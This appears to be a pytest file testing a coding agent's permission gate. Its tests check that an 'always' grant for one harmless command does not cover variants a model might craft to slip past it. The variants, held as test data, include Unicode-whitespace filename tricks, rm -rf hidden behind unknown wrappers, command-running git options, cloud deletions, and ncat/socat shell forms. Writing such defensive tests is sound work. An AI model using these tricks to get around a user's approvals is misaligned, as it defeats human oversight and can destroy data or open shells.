"""An "always" answer attacked from README alone ("Permissions", The question): a harmless
line a user answers "always" to, then a line the model shapes so the grant covers it, though
README says it would be asked. Every later line here runs a program the first line did not (a
destructive one, an interpreter, or a command handed to git), or is not the same line an exact
grant names. The grants are those `grant_offers` makes and `decide` weighs, as the gate does;
the git lines were checked against real git to run the command they name."""

from __future__ import annotations

import pytest

from di_code.tools.policy.permissions import GrantOffer, PermissionRules, grant_offers
from tests.support.grants import runs_unasked_after_always


def grant_offers_for(command: str) -> tuple[GrantOffer, ...]:
    return grant_offers("bash", {"command": command})


@pytest.mark.parametrize(
    "twin",
    [
        "rm -f notes.txt\x1f",  # bash reads these as part of the word: another file
        "rm -f notes.txt\x1c",
        "rm -f notes.txt\x0b",
        "rm -f notes.txt\x0c",
        "rm -f notes.txt\r",
        "rm -f notes.txt\x85",
        "rm -f notes.txt\u00a0",
        "rm -f notes.txt\u2028",
        "rm -f notes.txt\u3000",
        "\x0crm -f notes.txt",  # another program's name
    ],
    ids=repr,
)
def test_an_exact_grant_runs_only_the_same_line_not_one_with_other_blanks(twin: str) -> None:
    """Only bash's own blanks around a line leave it the same line; Python's `strip()` takes
    any Unicode space, so `rm -f notes.txt` let the model remove `notes.txt\\x1f` unasked."""
    assert runs_unasked_after_always("rm -f notes.txt", " rm -f notes.txt\n")
    assert not runs_unasked_after_always("rm -f notes.txt", twin)


@pytest.mark.parametrize(
    ("first", "then"),
    [
        # a program di-code does not know as a wrapper, running a destructive one
        ("valgrind rm x", "valgrind rm -rf y"),
        ("ltrace rm x", "ltrace rm -rf y"),
        ("valgrind --tool=none rm x", "valgrind --tool=none rm -rf y"),
        ("catchsegv /bin/rm x", "catchsegv /bin/rm -rf y"),
        ("bundle exec rspec", "bundle exec rm -rf y"),
        ("valgrind python3 a.py", "valgrind python3 -c 'import os'"),
        # a wrapper behind one: the grant's subcommand is the known wrapper
        ("valgrind nice ls", "valgrind nice rm -rf y"),
        ("valgrind timeout 5", "valgrind timeout 5 rm -rf y"),
    ],
)
def test_always_never_grants_a_destructive_program_behind_an_unknown_wrapper(
    first: str, then: str
) -> None:
    """README: a line that runs `rm` (or an interpreter) is granted exactly; a program it does
    not know may run the next word, as `valgrind rm x` runs rm."""
    assert not runs_unasked_after_always(first, then)
    assert runs_unasked_after_always(first, first)


@pytest.mark.parametrize(
    ("first", "then"),
    [
        # a command stored for git to run later (README: aliases and pagers are commands)
        ("git config user.name", "git config alias.x '!touch P'"),
        ("git config user.name", "git config core.fsmonitor 'touch P'"),
        ("git --no-pager config user.name", "git --no-pager config core.pager 'touch P'"),
        # a command git runs from its arguments
        ("git grep foo", "git grep -O'touch P' foo"),
        ("git fetch origin", "git fetch --upload-pack='touch P; git-upload-pack' ."),
        ("git ls-remote origin", "git ls-remote --upload-pack='touch P; git-upload-pack' ."),
        ("git pull origin main", "git pull --upload-pack='touch P; git-upload-pack' ."),
        ("git clone src dst", "git clone -u 'touch P; git-upload-pack' src dst"),
        ("git archive HEAD", "git archive --remote=. --exec='touch P' HEAD"),
        ("git difftool HEAD", "git difftool -y -x 'touch P' HEAD"),
        ("git rebase main", "git rebase --exec 'touch P' main"),
        ("git bisect start", "git bisect run touch P"),
        ("git submodule status", "git submodule foreach 'touch P'"),
        ("git -C sub submodule status", "git -C sub submodule foreach 'touch P'"),
    ],
)
def test_always_for_a_git_subcommand_that_takes_a_command_grants_the_exact_line(
    first: str, then: str
) -> None:
    """Each of these git subcommands runs (or stores for git to run) a command given in its
    arguments: it is a runner like `make`, granted line by line, as `git -c` is hidden."""
    assert not runs_unasked_after_always(first, then)


@pytest.mark.parametrize(
    ("first", "then"),
    [
        (
            "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=x git status",
            "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.status GIT_CONFIG_VALUE_0=x git status",
        ),
        (
            "env GIT_CONFIG_PARAMETERS=\"'user.name'='x'\" git log",
            "env GIT_CONFIG_PARAMETERS=\"'core.pager'='touch P'\" git log",
        ),
        ("env GIT_CONFIG_GLOBAL=a.cfg git log", "env GIT_CONFIG_GLOBAL=b.cfg git log"),
        ("env GIT_EXEC_PATH=. git log", "env GIT_EXEC_PATH=. git log"),
    ],
)
def test_git_configured_by_the_environment_is_a_hidden_form(first: str, then: str) -> None:
    """`git -c` written as GIT_CONFIG_COUNT/KEY_n/VALUE_n or GIT_CONFIG_PARAMETERS, a config
    file named by GIT_CONFIG_GLOBAL, programs from GIT_EXEC_PATH: README lists `git -c` and
    `--exec-path=` among the hidden forms (aliases and pagers are commands); these are the
    same, so no "always" is offered and every deny rule matches (tests/tools/bash_corpus)."""
    assert grant_offers_for(first) == ()
    assert not runs_unasked_after_always(first, then)
    assert PermissionRules.parse(deny=["bash:rm"]).decide("bash", {"command": then}) == "deny"


@pytest.mark.parametrize(
    ("first", "then"),
    [
        # a GET granted "always" is not a DELETE: these reach the network with the user's keys
        ("gh api repos/o/r", "gh api -X DELETE repos/o/r"),
        ("gh pr list", "gh pr merge 1 --admin"),
        ("glab mr list", "glab mr merge 1"),
        ("aws s3 ls", "aws s3 rm s3://bucket --recursive"),
        ("gcloud compute instances list", "gcloud compute instances delete vm"),
        ("az group list", "az group delete -n rg"),
        ("helm list", "helm uninstall app"),
        # and these connect or run what they are told to (`EXEC:` in socat's address)
        ("socat - TCP:host:1", "socat - EXEC:'touch P'"),
        ("ncat host 1", "ncat host 1 -e /bin/sh"),
    ],
)
def test_always_for_a_network_program_grants_the_exact_line(first: str, then: str) -> None:
    """README: a line that reaches the network (`curl`, `ssh`, ...) is granted exactly."""
    assert not runs_unasked_after_always(first, then)
    [offer] = grant_offers_for(first)
    assert offer.label == "this exact command only"
